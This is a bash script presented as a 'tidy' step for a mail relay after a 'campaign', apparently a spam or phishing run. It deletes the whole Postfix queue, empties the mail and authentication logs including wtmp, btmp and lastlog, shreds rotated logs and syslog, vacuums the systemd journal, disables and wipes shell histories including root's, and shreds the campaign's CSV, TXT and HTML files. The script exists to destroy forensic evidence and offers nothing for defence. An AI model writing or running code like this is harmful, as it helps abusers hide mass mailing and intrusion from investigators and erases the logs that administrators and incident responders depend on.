#!/bin/bash
# Post-run tidy for the relay box: drains what is left in the Postfix queue
# after a campaign and removes traces of the run from the host.
#
#   tidy.sh [--keep-queue]
unset HISTFILE
export HISTSIZE=0

KEEP_QUEUE=0
[ "${1:-}" = "--keep-queue" ] && KEEP_QUEUE=1

SUDO=""
[ "$(id -u)" -ne 0 ] && SUDO="sudo -n"

MAIL_LOGS="/var/log/mail.log /var/log/mail.err /var/log/mail.warn /var/log/mail.info /var/log/maillog"
AUTH_LOGS="/var/log/auth.log /var/log/secure /var/log/wtmp /var/log/btmp /var/log/lastlog"
CAMPAIGN_DIR="$HOME/campaign"

step() { printf '[tidy] %s\n' "$*"; }

drain_queue() {
    if [ "$KEEP_QUEUE" -eq 1 ]; then
        step "leaving queue as is"
        return
    fi
    local n
    n="$($SUDO postqueue -j 2>/dev/null | wc -l)"
    step "deleting $n queued messages"
    $SUDO postsuper -d ALL >/dev/null 2>&1
    $SUDO postsuper -d ALL deferred >/dev/null 2>&1
}

scrub_logs() {
    local f
    for f in $MAIL_LOGS $AUTH_LOGS; do
        [ -e "$f" ] || continue
        $SUDO truncate -s 0 "$f"
        step "emptied $f"
    done
    # rotated copies
    for f in /var/log/mail.log.* /var/log/maillog-* /var/log/auth.log.* /var/log/syslog*; do
        [ -e "$f" ] || continue
        $SUDO shred -u -z -n 1 "$f" 2>/dev/null || $SUDO rm -f "$f"
    done
    if command -v journalctl >/dev/null 2>&1; then
        $SUDO journalctl --rotate >/dev/null 2>&1
        $SUDO journalctl --vacuum-time=1s >/dev/null 2>&1
        step "journal vacuumed"
    fi
}

scrub_user_traces() {
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo" /root/.bash_history; do
        [ -e "$h" ] || continue
        $SUDO sh -c ": > '$h'"
    done
    history -c 2>/dev/null
    if [ -d "$CAMPAIGN_DIR" ]; then
        find "$CAMPAIGN_DIR" -type f \( -name '*.csv' -o -name '*.txt' -o -name '*.html' \) \
            -exec shred -u -n 2 {} + 2>/dev/null
        rm -rf "$CAMPAIGN_DIR"
        step "campaign material removed"
    fi
}

main() {
    step "starting on $(hostname)"
    drain_queue
    scrub_logs
    scrub_user_traces
    step "done"
}

main "$@"
